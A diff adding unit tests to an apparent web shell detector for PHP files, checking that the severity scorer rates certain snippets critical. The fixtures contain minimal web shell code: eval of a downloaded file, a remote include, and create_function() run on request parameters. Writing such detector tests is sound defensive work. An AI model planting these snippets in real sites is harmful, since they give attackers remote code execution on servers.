@@ -161,3 +161,30 @@ UserName.Text = System.Text.Encoding.UTF8.GetString(plain); %>`;
     expect(severity('/inetpub/wwwroot/login.aspx', text)).not.toMatch(/high|critical/);
   });
 });
+
+describe('PHP code run from a download, and create_function() of the request', () => {
+  it('calls a page that evaluates what it downloads a web shell, and one that only reads a feed nothing', () => {
+    expect(
+      severity(
+        '/var/www/html/m.php',
+        `<?php eval("?>" . file_get_contents("https://example.org/s.txt")); ?>`,
+      ),
+    ).toBe('critical');
+    expect(severity('/var/www/html/i.php', `<?php include('http://example.org/x.txt');`)).toBe(
+      'critical',
+    );
+    expect(
+      severity(
+        '/var/www/html/feed.php',
+        `<?php $xml = file_get_contents("https://example.org/feed.xml"); $n = json_decode($_GET['n']); echo htmlspecialchars($xml);`,
+      ),
+    ).not.toMatch(/high|critical/);
+  });
+
+  it('judges create_function() by its code, the second argument', () => {
+    const shell = `<?php $code = $_GET['code']; $f = create_function('', $code); $f();`;
+    expect(severity('/var/www/html/cf.php', shell)).toBe('critical');
+    const withArgs = `<?php $f = create_function('$x', $_POST['body']); $f(1);`;
+    expect(severity('/var/www/html/cf2.php', withArgs)).toBe('critical');
+  });
+});
